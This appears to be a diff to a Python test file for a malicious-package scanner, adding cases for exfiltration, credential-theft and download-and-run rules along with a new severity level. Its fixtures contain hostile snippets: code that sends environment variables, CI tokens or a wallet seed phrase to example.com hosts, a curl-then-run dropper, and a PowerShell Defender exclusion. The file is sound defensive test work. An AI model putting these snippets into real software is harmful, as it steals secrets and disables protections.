@@ -10,7 +10,7 @@ from __future__ import annotations
 
 import base64
 
-from tests.rule_cases import BLOB, C, H, Negative, Positive, S, W, case_tests
+from tests.rule_cases import BLOB, C, H, M, Negative, Positive, S, W, case_tests
 
 # -- sample material ----------------------------------------------------------------------------
 
@@ -56,14 +56,28 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "pkg/__init__.py", 3, "import",
     ),
+    # In a release with little else, sending the seed phrase is what the release is for.
     "wallet-secret-sent/seed-phrase-posted-when-called": Positive(
-        "wallet-secret-sent", H,
+        "wallet-secret-sent", C,
         W({"pkg/wallet.py": """
             import requests
 
             def backup(phrase):
                 requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
         """}),
+        "pkg/wallet.py", 4, "call",
+    ),
+    "wallet-secret-sent/seed-phrase-posted-when-called-in-a-large-library": Positive(
+        "wallet-secret-sent", H,
+        W({
+            "pkg/wallet.py": """
+            import requests
+
+            def backup(phrase):
+                requests.post("https://api.example.com/backup", json={"mnemonic": phrase})
+            """,
+            **{f"pkg/module_{n}.py": f"def helper_{n}(value):\n    return value * {n}\n" * 600 for n in range(3)},
+        }),
         "pkg/wallet.py", 4, "call",
     ),
     "wallet-secret-sent/private-key-posted-at-import": Positive(
@@ -102,6 +116,54 @@ POSITIVE: dict[str, Positive] = {
             setup(name="demo")
         """}),
         "setup.py", 5, "install",
+    ),
+    # A class that posts the environment when constructed, in a release that is little else.
+    "exfiltration-when-called/constructor-posts-the-environment": Positive(
+        "exfiltration-when-called", C,
+        W({"pkg/__init__.py": """
+            import base64
+            from os import environ
+            import requests
+
+            class Settings(dict):
+                def __init__(self):
+                    self.sync()
+
+                def sync(self):
+                    text = ""
+                    for _, value in environ.items():
+                        text += value + " "
+                    requests.get("https://settings-sync.example.com/s/" + base64.b64encode(text.encode()).decode())
+        """}),
+        "pkg/__init__.py", 11, "call",
+    ),
+    # The same function in a large library: worth a look, not a verdict on the release's purpose.
+    "exfiltration-when-called/in-a-large-library": Positive(
+        "exfiltration-when-called", H,
+        W({
+            "pkg/support.py": """
+            import os
+            import requests
+
+            def send_diagnostics():
+                requests.post("https://support.example.com/upload", json=dict(os.environ))
+            """,
+            **{f"pkg/module_{n}.py": f"def helper_{n}(value):\n    return value * {n}\n" * 600 for n in range(3)},
+        }),
+        "pkg/support.py", 5, "call",
+    ),
+    # An opt-out switch does not excuse sending secrets along with the host's name.
+    "host-exfiltration/analytics-that-also-send-a-token": Positive(
+        "host-exfiltration", C,
+        W({"pkg/__init__.py": """
+            import os, socket
+            import urllib.request
+
+            if os.environ.get("ACME_TELEMETRY_DISABLED") != "1":
+                payload = f"{socket.gethostname()}|{os.environ.get('GITHUB_TOKEN')}|{os.environ.get('NPM_TOKEN')}"
+                urllib.request.urlopen("https://stats.example.com/v1/event", data=payload.encode())
+        """}),
+        "pkg/__init__.py", 6, "import",
     ),
     "host-exfiltration/ci-tokens-posted-at-import": Positive(
         "host-exfiltration", C,
@@ -349,14 +411,33 @@ POSITIVE: dict[str, Positive] = {
         """}),
         "pkg/__init__.py", 5, "import",
     ),
+    # A tool installer in plain sight: worth a look, not a verdict on its own.
     "download-and-run/curl-then-run-when-called": Positive(
-        "download-and-run", H,
+        "download-and-run", M,
         W({"pkg/tools.py": """
             import subprocess
             def fetch_tool():
                 subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
                 subprocess.run(["/tmp/tool", "--init"])
         """}),
+        "pkg/tools.py", 3, "call",
+    ),
+    # The same function in a release that also hides from defences: a dropper waiting to be called.
+    "download-and-run/curl-then-run-with-evasion-elsewhere": Positive(
+        "download-and-run", H,
+        W({
+            "pkg/tools.py": """
+            import subprocess
+            def fetch_tool():
+                subprocess.run("curl -fsSL -o /tmp/tool https://example.org/tool", shell=True)
+                subprocess.run(["/tmp/tool", "--init"])
+            """,
+            "pkg/quiet.py": """
+            import subprocess
+            def quiet():
+                subprocess.run(["powershell", "Add-MpPreference", "-ExclusionPath", "C:\\Users"])
+            """,
+        }),
         "pkg/tools.py", 3, "call",
     ),
     "download-and-run/helpers-called-at-import": Positive(
@@ -462,6 +543,28 @@ NEGATIVE: dict[str, Negative] = {
 
             def report_usage(url):
                 requests.post(url, data={"user": getpass.getuser()})
+        """}),
+    ),
+    "exfiltration-when-called/client-sends-where-the-caller-says": Negative(
+        "exfiltration-when-called",
+        W({"pkg/debug.py": """
+            import os
+            import requests
+
+            def send_report(url):
+                requests.post(url, json={key: value for key, value in os.environ.items()})
+        """}),
+    ),
+    # Product analytics: the platform and host name sent at import, unless the user opted out.
+    "host-exfiltration/analytics-with-an-opt-out": Negative(
+        "host-exfiltration",
+        W({"pkg/__init__.py": """
+            import os, platform, socket
+            import urllib.request
+
+            if os.environ.get("ACME_TELEMETRY_DISABLED") != "1":
+                payload = f"{platform.system()}|{socket.gethostname()}".encode()
+                urllib.request.urlopen("https://stats.example.com/v1/event", data=payload)
         """}),
     ),
     "host-exfiltration/setup-py-uses-user-name-without-sending": Negative(
